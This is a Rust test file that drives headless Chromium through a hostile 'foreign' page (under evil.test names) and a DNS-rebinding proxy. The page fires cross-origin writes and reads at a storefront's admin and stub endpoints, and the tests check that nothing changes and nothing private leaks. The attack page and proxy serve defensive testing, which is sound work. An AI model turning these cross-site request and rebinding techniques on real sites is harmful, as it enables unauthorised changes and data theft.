//! Foreign web pages in a real browser: their requests to the shop and to the stubs change nothing, and they can read
//! only what is public.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::OnceLock;

use axum::Router;
use axum::extract::State;
use axum::response::Html;
use axum::routing::{get, post};
use serde_json::Value;
use storefront_mocks::Stub;
use storefront_server::Config;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

use crate::world::{VISA, WAIT_TIMEOUT, World};

/// What a page tries against the addresses that are put in, as JSON, for `TARGETS`. It posts what it could read, and what it
/// could not, to its own server.
const FOREIGN_PAGE_HTML: &str = r#"<!doctype html><meta charset="utf-8"><title>A page of somebody else</title><body><script>
const targets = TARGETS;
const within = (limit, work) => Promise.race([work, new Promise(done => setTimeout(() => done("no answer"), limit))]);
const said = {};
const read = async (url, options) => {
  const answer = await fetch(url, options);
  return `${answer.type} ${answer.status} ${(await answer.text()).slice(0, 400)}`;
};
const note = async (what, work) => {
  said[what] = await within(4000, work().then(String, error => `failed: ${error.message}`));
};
const load = (tag, url) => new Promise(done => {
  const node = document.createElement(tag);
  node.onload = () => done(`loaded ${node.naturalWidth ?? ""}`);
  node.onerror = () => done("failed");
  if (tag === "form") {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    frame.onload = () => { try { done("answered " + frame.contentDocument?.body?.innerText); } catch { done("answered"); } };
    document.body.append(frame);
    Object.assign(node, { method: "post", action: url, target: frame.name });
    document.body.append(node);
    node.submit();
  } else {
    node.src = url;
    document.body.append(node);
  }
});
const follow = url => new Promise(done => {
  const source = new EventSource(url);
  source.onmessage = event => { source.close(); done(`event ${event.data}`); };
  source.onopen = () => { source.close(); done("open"); };
  source.onerror = () => { source.close(); done("failed"); };
});
(async () => {
  for (const { name, writes, reads, pictures, streams } of targets) {
    for (const path of writes) {
      await note(`${name} POST ${path}`, () => read(path, { method: "POST" }));
      await note(`${name} POST no-cors ${path}`, () => read(path, { method: "POST", mode: "no-cors", body: "{}" }));
      await note(`${name} PUT ${path}`, () => read(path, { method: "PUT", body: "{}", headers: { "content-type": "application/json" } }));
      await note(`${name} DELETE ${path}`, () => read(path, { method: "DELETE" }));
      await note(`${name} FORM ${path}`, () => load("form", path));
      await note(`${name} BEACON ${path}`, async () => navigator.sendBeacon(path, "{}"));
    }
    for (const path of reads) {
      await note(`${name} GET ${path}`, () => read(path));
      await note(`${name} GET no-cors ${path}`, () => read(path, { mode: "no-cors" }));
      await note(`${name} SCRIPT ${path}`, () => load("script", path));
      await note(`${name} FRAME ${path}`, () => load("iframe", path));
    }
    for (const path of pictures) await note(`${name} IMG ${path}`, () => load("img", path));
    for (const path of streams) await note(`${name} EVENTS ${path}`, () => follow(path));
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(said) });
})();
</script>"#;

/// A headless browser with a profile of its own. It is killed when this is dropped.
struct Browser {
    process: Child,
    _profile: tempfile::TempDir,
}

impl Browser {
    /// Opens a page; every name under `evil.test` is this machine.
    fn open(url: &str) -> Self {
        static PROGRAM: OnceLock<PathBuf> = OnceLock::new();
        let program = PROGRAM.get_or_init(|| {
            find().or_else(install).expect(
                "these tests need Chromium: it was not found on the PATH, nor could `apt-get install chromium` get it",
            )
        });
        let profile = tempfile::tempdir().unwrap();
        let mut command = Command::new(program);
        command.args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--host-resolver-rules=MAP *.evil.test 127.0.0.1, MAP evil.test 127.0.0.1",
        ]);
        command.arg(format!("--user-data-dir={}", profile.path().display())).arg(url);
        let process = command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        Self { process, _profile: profile }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

fn find() -> Option<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let folders: Vec<PathBuf> = std::env::split_paths(&path).collect();
    let names = ["chromium", "chromium-browser", "google-chrome"];
    names.iter().flat_map(|name| folders.iter().map(move |folder| folder.join(name))).find(|program| program.is_file())
}

fn install() -> Option<PathBuf> {
    let apt = |arguments: &[&str]| {
        let mut command = Command::new("apt-get");
        let done = command.args(arguments).env("DEBIAN_FRONTEND", "noninteractive").output();
        done.is_ok_and(|done| done.status.success())
    };
    let install = ["install", "--yes", "--no-install-recommends", "chromium"];
    (apt(&install) || (apt(&["update"]) && apt(&install))).then(find)?
}

/// The server of a foreign page: it serves the page and takes its report.
async fn serve_page(page: String) -> (u16, mpsc::Receiver<Value>) {
    let (report, reports) = mpsc::channel(1);
    let take = |State(report): State<mpsc::Sender<Value>>, body: String| async move {
        report.send(serde_json::from_str(&body).unwrap()).await.unwrap();
    };
    let serve_page = || async move { Html(page) };
    let router = Router::new().route("/page", get(serve_page)).route("/report", post(take)).with_state(report);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, router).await });
    (port, reports)
}

/// What the page of a site could do, once a browser has opened it.
async fn open_and_report(url: &str, mut reports: mpsc::Receiver<Value>) -> Vec<(String, String)> {
    let browser = Browser::open(url);
    // A browser takes a while to start on a busy machine.
    let report = tokio::time::timeout(WAIT_TIMEOUT * 6, reports.recv()).await.expect("the page reports").unwrap();
    drop(browser);
    let said = report.as_object().unwrap().iter();
    said.map(|(what, came)| (what.clone(), came.as_str().unwrap().to_owned())).collect()
}

/// Everything of the shop and its stubs that a page could want.
fn targets(world: &World, shop: &str, stubs: &str, order: &str, product: &str) -> String {
    let under = |base: &str, paths: &[String]| paths.iter().map(|path| format!("{base}{path}")).collect::<Vec<_>>();
    let text = |paths: &[&str]| paths.iter().map(|path| (*path).to_owned()).collect::<Vec<_>>();
    let mut writes = text(&["/v1/lab/reset", "/v1/processes/mail/pause", "/v1/views/orders/rebuild"]);
    writes.extend([format!("/v1/products/{product}/withdraw"), format!("/v1/orders/{order}/items")]);
    let mut reads = text(&["/v1/orders", "/v1/events", "/v1/statistics", "/v1/export", "/v1/lab/faults", "/metrics"]);
    reads.push(format!("/v1/orders/{order}"));
    let stub_writes = text(&["/reset", "/faults/cards", "/mailbox/v1/messages", "/products-service/v1/product"]);
    let stub_reads = text(&["/mailbox/v1/messages", "/card-gateway/v1/charges", "/faults/mail"]);
    let picture = format!("/v1/products/{product}/picture");
    assert!(!world.mocks.base_url().is_empty());
    serde_json::json!([
        {
            "name": "shop",
            "writes": under(shop, &writes),
            "reads": under(shop, &reads),
            "pictures": under(shop, &[picture]),
            "streams": under(shop, &text(&["/v1/events"])),
        },
        { "name": "stubs", "writes": under(stubs, &stub_writes), "reads": under(stubs, &stub_reads), "pictures": [], "streams": [] },
    ])
    .to_string()
}

/// A shop with a lab, in which somebody has bought something; its order and product.
async fn a_shop_to_attack(change: impl FnOnce(&mut Config)) -> (World, String, String) {
    let world = World::open_lab_with(change).await;
    let product = world.product_with(5).await;
    let basket = world.a_basket(&product.id, 1).await;
    world.buy(&basket, VISA).await.unwrap();
    world.wait_for_status(basket.id, storefront_api::OrderStatus::Confirmed).await;
    world.wait_until_idle().await;
    (world, basket.id.to_string(), product.id.to_string())
}

/// What must be as before: the log, the mails, the charges, what is broken, the range.
async fn state(world: &World) -> String {
    world.wait_until_idle().await;
    let mails = world.mocks.mailbox().messages().len();
    let charges = world.mocks.card_gateway().charges().len();
    let faults = [Stub::Products, Stub::Cards, Stub::Mail].map(|stub| world.mocks.faults(stub).get());
    let products = world.mocks.products().list().len();
    let head = world.head().await;
    format!("head {head}, {mails} mails, {charges} charges, {products} products, {faults:?}")
}

/// What a foreign page may not have learnt: something of the shop that is not public.
fn assert_nothing_was_read(said: &[(String, String)], order: &str) {
    assert!(said.len() > 60, "the page tried too little: {said:#?}");
    for (what, came) in said {
        let readable = ["basic ", "cors ", "default ", "event ", "open"].iter().any(|kind| came.starts_with(kind));
        let refused = came.contains("foreign_host") || came.contains("foreign_origin");
        assert!(!readable || refused, "{what}: {came}");
        assert!(!came.contains(order) || refused, "{what}: {came}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_another_origin_changes_nothing_and_reads_only_what_is_public() {
    let (world, order, product) = a_shop_to_attack(|_| {}).await;
    let before = state(&world).await;
    let (shop, stubs) = (world.server.url(), world.mocks.base_url());
    let (port, reports) =
        serve_page(FOREIGN_PAGE_HTML.replace("TARGETS", &targets(&world, &shop, &stubs, &order, &product))).await;
    let said = open_and_report(&format!("http://evil.test:{port}/page"), reports).await;
    assert_nothing_was_read(&said, &order);
    let picture = said.iter().find(|(what, _)| what.starts_with("shop IMG")).unwrap();
    assert!(picture.1.starts_with("loaded") && !picture.1.ends_with(" 0"), "pictures are public: {picture:?}");
    assert_eq!(state(&world).await, before);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_whose_name_was_pointed_at_the_shop_gets_nothing() {
    let (world, order, product) = a_shop_to_attack(|_| {}).await;
    let before = state(&world).await;
    let (shop, stubs) = (world.server.address().port(), world.mocks.http_addr().port());
    // The page comes from the name that its later requests go to: at first that is the attacker's own machine.
    for (name, target) in [("shop", shop), ("stubs", stubs)] {
        let (attacker, reports) =
            serve_page(FOREIGN_PAGE_HTML.replace("TARGETS", &targets(&world, "", "", &order, &product))).await;
        let rebound = start_rebinding_proxy(attacker, target).await;
        let said = open_and_report(&format!("http://evil.test:{rebound}/page"), reports).await;
        assert_nothing_was_read(&said, &order);
        let refused = said.iter().filter(|(_, came)| came.contains("foreign_host")).count();
        assert!(refused > 20, "{name}: {said:#?}");
    }
    assert_eq!(state(&world).await, before);
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_of_an_allowed_origin_and_its_own_work() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let origin = format!("http://front.evil.test:{port}");
    let named = origin.parse().unwrap();
    let (world, order, _) = a_shop_to_attack(|config| config.allow_origins = vec![named]).await;
    let shop = world.server.url();
    let script = format!(
        r#"<script>(async () => {{
          const said = {{}};
          const json = {{ "content-type": "application/json", "idempotency-key": "k1", "x-request-id": "front" }};
          const read = await fetch("{shop}/v1/orders/{order}");
          said.read = `${{read.status}} ${{read.headers.get("etag")}} ${{read.headers.get("x-request-id") ? "id" : ""}}`;
          const write = await fetch("{shop}/v1/customers", {{ method: "POST", headers: json, body: JSON.stringify({{}}) }});
          said.write = `${{write.status}} ${{write.headers.get("storefront-position") ?? (await write.json()).code}}`;
          const put = await fetch("{shop}/v1/stock/no-such/threshold", {{ method: "PUT", headers: {{ ...json, "idempotency-key": "k2" }}, body: '{{"threshold":1}}' }});
          said.put = `${{put.status}} ${{(await put.json()).code}}`;
          await fetch("/report", {{ method: "POST", body: JSON.stringify(said) }});
        }})();</script>"#
    );
    listener.set_nonblocking(true).unwrap();
    let listener = TcpListener::from_std(listener).unwrap();
    let (report, reports) = mpsc::channel(1);
    let take = |State(report): State<mpsc::Sender<Value>>, body: String| async move {
        report.send(serde_json::from_str(&body).unwrap()).await.unwrap();
    };
    let router = Router::new().route("/page", get(|| async { Html(script) })).route("/report", post(take));
    tokio::spawn(async move { axum::serve(listener, router.with_state(report)).await });
    let said = open_and_report(&format!("{origin}/page"), reports).await;
    let of = |what: &str| said.iter().find(|(name, _)| name == what).unwrap().1.clone();
    assert!(of("read").starts_with("200 \"") && of("read").ends_with(" id"), "{said:?}");
    assert!(!of("write").contains("foreign") && !of("write").starts_with('5'), "{said:?}");
    assert_eq!(of("put"), "404 product_not_found", "{said:?}");

    // The page that the shop serves itself asks the shop from there.
    let profile = tempfile::tempdir().unwrap();
    let dumped = dump(&format!("{shop}/docs"), profile.path());
    assert!(dumped.contains("/v1/orders/{id}/checkout") && dumped.contains("Storefront-Position"), "{dumped}");
}

/// The document of a page once its scripts have run.
fn dump(url: &str, profile: &Path) -> String {
    let program = find().expect("the browser is there by now");
    let mut command = Command::new(program);
    command.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--virtual-time-budget=20000",
        "--dump-dom",
    ]);
    command.arg(format!("--user-data-dir={}", profile.display())).arg(url);
    let output = command.stdin(Stdio::null()).output().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// A port at which a page and its report go to one server, and everything else to another, as when a name is pointed at
/// another machine after the page was loaded.
async fn start_rebinding_proxy(attacker: u16, target: u16) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((client, _)) = listener.accept().await {
            tokio::spawn(pass_on(client, attacker, target));
        }
    });
    port
}

/// Passes one request on, and its answer back.
async fn pass_on(mut client: TcpStream, attacker: u16, target: u16) {
    let mut head = Vec::new();
    while !head.windows(4).any(|end| end == b"\r\n\r\n") {
        let mut chunk = [0; 4096];
        match client.read(&mut chunk).await {
            Ok(count) if count > 0 => head.extend_from_slice(&chunk[..count]),
            _ => return,
        }
    }
    let mine = [&b"GET /page "[..], b"POST /report "].iter().any(|begin| head.starts_with(begin));
    let text = String::from_utf8_lossy(&head).replace("Connection: keep-alive\r\n", "Connection: close\r\n");
    let port = if mine { attacker } else { target };
    let Ok(mut server) = TcpStream::connect(("127.0.0.1", port)).await else { return };
    if server.write_all(text.as_bytes()).await.is_ok() {
        let _ended = tokio::io::copy_bidirectional(&mut client, &mut server).await;
    }
}
